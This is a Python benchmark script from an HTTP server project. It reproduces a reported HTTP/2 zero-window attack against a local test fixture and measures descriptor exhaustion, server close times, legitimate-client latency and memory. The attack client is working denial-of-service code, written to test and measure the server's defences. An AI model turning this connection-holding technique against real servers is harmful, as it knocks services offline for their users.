#!/usr/bin/env python3
"""The zero-window attack of issue 30, against the conformance fixture: figures, not a test.

Each round opens CONNECTIONS HTTP/2 (h2c) connections that announce a zero flow-control window,
ask for `GET /events?count=100` and then only answer PINGs, so the server can send the response
headers and nothing more. The server runs with its file limit at 256 (`prlimit --nofile=256`),
so the attack alone can take every descriptor. While it holds, a legitimate client asks
`GET /health` over HTTP/1.1 again and again until it is served.

It prints, per round: how many attack connections were accepted, when the last one was closed
by the server (its send deadline: the idle timeout, 10 s by default, then GOAWAY and one more
timeout), when the legitimate client was served, and the server's resident memory before,
at its peak and after.

    python3 -m venv /tmp/attack-venv && /tmp/attack-venv/bin/pip install h2==4.1.0
    cargo build --release --example conformance
    /tmp/attack-venv/bin/python benches/zero-window-attack.py [native|warp] [ROUNDS] [CONNECTIONS]
"""
import asyncio
import os
import subprocess
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
BINARY = os.path.join(ROOT, "target", "release", "examples", "conformance")
HOLD = 45.0  # the longest an attack connection is held open by the client


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


async def attacker(port, closed_at, accepted, started):
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        return
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    conn = h2.connection.H2Connection(config=config)
    conn.local_settings = h2.settings.Settings(
        client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
    )
    conn.initiate_connection()
    conn.send_headers(
        1,
        [(":method", "GET"), (":path", "/events?count=100"), (":scheme", "http"),
         (":authority", f"127.0.0.1:{port}")],
        end_stream=True,
    )
    writer.write(conn.data_to_send())
    got_headers = False
    try:
        while time.monotonic() - started < HOLD:
            data = await asyncio.wait_for(reader.read(65536), HOLD)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived) and not got_headers:
                    got_headers = True
                    accepted.append(1)
            # PING acknowledgements and SETTINGS ACKs only: the window stays shut.
            writer.write(conn.data_to_send())
    except (asyncio.TimeoutError, ConnectionError, h2.exceptions.ProtocolError):
        pass
    closed_at.append(time.monotonic() - started)
    writer.close()


async def legitimate(port, started):
    while time.monotonic() - started < HOLD + 5:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port), 2)
            writer.write(b"GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            answer = await asyncio.wait_for(reader.read(4096), 2)
            writer.close()
            if answer.startswith(b"HTTP/1.1 200"):
                return time.monotonic() - started
        except (OSError, asyncio.TimeoutError):
            pass
        await asyncio.sleep(0.2)  # the client's retry pace
    return None


async def sample_peak(pid, stop, peak):
    while not stop.is_set():
        peak[0] = max(peak[0], rss_kib(pid))
        await asyncio.sleep(0.05)


async def round_(port, pid, connections):
    before = rss_kib(pid)
    started = time.monotonic()
    closed_at, accepted = [], []
    peak, stop = [before], asyncio.Event()
    sampler = asyncio.create_task(sample_peak(pid, stop, peak))
    attacks = [asyncio.create_task(attacker(port, closed_at, accepted, started))
               for _ in range(connections)]
    await asyncio.sleep(1)  # the attack in place before the legitimate client comes
    served = await legitimate(port, started)
    await asyncio.gather(*attacks)
    stop.set()
    await sampler
    await asyncio.sleep(2)  # the server's tasks end after their sockets close
    after = rss_kib(pid)
    last = max(closed_at) if closed_at else None
    return len(accepted), last, served, before, peak[0], after


async def main():
    adapter = sys.argv[1] if len(sys.argv) > 1 else "native"
    rounds = int(sys.argv[2]) if len(sys.argv) > 2 else 3
    connections = int(sys.argv[3]) if len(sys.argv) > 3 else 300
    server = subprocess.Popen(
        ["prlimit", "--nofile=256", BINARY, "--adapter", adapter, "--port", "0"],
        stdout=subprocess.PIPE, text=True)
    port = int(server.stdout.readline().strip().rsplit(":", 1)[1])
    print(f"{adapter}: {connections} zero-window connections per round, server file limit 256")
    try:
        for n in range(1, rounds + 1):
            accepted, last, served, before, peak, after = await round_(port, server.pid, connections)
            last_s = f"{last:.1f} s" if last is not None else "-"
            served_s = f"{served:.1f} s" if served is not None else "never"
            print(f"  round {n}: {accepted} answered with headers, last closed at {last_s}, "
                  f"legitimate client served at {served_s}; "
                  f"RSS {before / 1024:.1f} MiB before, {peak / 1024:.1f} peak, "
                  f"{after / 1024:.1f} after")
    finally:
        server.terminate()
        server.wait()


if __name__ == "__main__":
    asyncio.run(main())
